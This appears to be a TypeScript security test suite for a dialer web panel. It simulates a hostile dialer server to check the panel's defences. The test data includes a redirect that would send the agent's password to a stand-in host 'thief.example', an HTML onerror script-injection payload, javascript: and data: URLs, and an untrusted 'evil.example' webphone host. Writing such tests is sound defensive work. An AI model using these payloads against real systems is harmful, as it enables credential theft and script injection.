import type { ServerResponse } from 'node:http';
import { pipeline } from 'node:stream/promises';
import { AGENT } from '../../e2e/fixtures/demo-agent.ts';
import type { Attack } from '../attack.ts';
import { numberOf } from '../scene/bait.ts';
import { plain } from '../scene/hostile-dialer.ts';
import type { Scene } from '../scene/scene.ts';

const group = 'The dialer answers with evil';

const THIEF = 'thief.example';
const MEGABYTE = 'x'.repeat(1e6);
const MEGABYTES = 50;

// A dial that follows another one keeps its distance from it, and reads the agent first.
const DIALLED_WITHIN_MS = 8000;

/** Has the agent dial by the dial pad, and waits until Dialside has read the answer. */
async function dial(scene: Scene, last: number): Promise<void> {
  const reply = JSON.stringify(await scene.ask('dial.start', { text: numberOf(last).e164 }));
  if ((await scene.dialled(DIALLED_WITHIN_MS)).length === 0) {
    throw new Error(`The dial was not sent, so that nothing was answered: ${reply}, ${await stateOf(scene)}`);
  }
  await scene.panel.waitForTimeout(400);
}

const stateOf = async (scene: Scene) => JSON.stringify(await scene.ask('panel.state'));

/** Sends so much that a reader without a limit would choke; resolves to the megabytes that were taken. */
async function sendHuge(out: ServerResponse): Promise<number> {
  let taken = 0;
  const much = async function* () {
    for (; taken < MEGABYTES; taken += 1) yield MEGABYTE;
  };
  // Broken off is what it should be.
  await pipeline(much, out).catch(() => undefined);
  return taken;
}

/** The webphone is opened with this address, and the window shows it. */
function webphone(address: string): Attack['run'] {
  return async (scene) => {
    scene.dialer.answer('webphone_url', (out) => plain(out, address));
    await scene.ask('webphone.open', { allowHost: null });
    await scene.panel.waitForTimeout(600);
    for (const page of await scene.pages()) {
      if (!(await page.url()).endsWith('/webphone.html')) continue;
      const shown = await page.evaluate(() => document.querySelector('iframe')?.getAttribute('src') ?? '');
      if (shown === address) return true;
    }
    return false;
  };
}

const HTTPS_ONLY = 'https alone (http on this machine), without credentials, is taken for a webphone’s address';

export const dialerAnswers: readonly Attack[] = [
  {
    group,
    name: 'a redirect of the dial, with the password in it, to another host',
    defence: 'redirects are not followed',
    async run(scene) {
      scene.dialer.answer('external_dial', (out) => {
        out.writeHead(307, { location: scene.web.address(THIEF, '/steal') });
        out.end();
      });
      await dial(scene, 90);
      return scene.web.requests(THIEF).some(({ url, body }) => `${url}${body}`.includes(AGENT.password));
    },
  },
  {
    group,
    name: 'an answer of 50 MB',
    defence: 'reading ends after 64 kB',
    async run(scene) {
      const taken = new Promise<number>((resolve) => {
        scene.dialer.answer('external_dial', (out) => void sendHuge(out).then(resolve));
      });
      await dial(scene, 91);
      return (await taken) === MEGABYTES;
    },
  },
  {
    group,
    name: 'HTML with script in the reason of a refusal',
    defence: 'the reason is cut at the first sign that no word has, and shown as text',
    async run(scene) {
      const picture = scene.web.address(THIEF, '/picture');
      scene.dialer.answer('external_dial', (out) =>
        plain(out, `ERROR: external_dial oh <img src="${picture}" onerror="alert(1)">\n`),
      );
      await dial(scene, 92);
      return scene.web.requests(THIEF).some(({ url }) => url === '/picture');
    },
  },
  {
    group,
    name: 'the password echoed in the reason of a refusal',
    defence: 'a reason that holds a form of the password is not shown',
    async run(scene) {
      scene.dialer.answer('external_dial', (out) => plain(out, `ERROR: external_dial no ${AGENT.password} here\n`));
      await dial(scene, 93);
      return (await scene.panel.evaluate(() => document.body.innerText)).includes(AGENT.password);
    },
  },
  { group, name: 'a webphone address with javascript:', defence: HTTPS_ONLY, run: webphone('javascript:alert(1)') },
  { group, name: 'a webphone address with data:', defence: HTTPS_ONLY, run: webphone('data:text/html,Password?') },
  {
    group,
    name: 'a webphone address with credentials in it',
    defence: HTTPS_ONLY,
    run: webphone('https://user:secret@127.0.0.1/phone'),
  },
  {
    group,
    name: 'a webphone on another host',
    defence: 'the agent or the administrator allows each host that is not the dialer’s',
    run: webphone('https://phone.evil.example/phone'),
  },
];
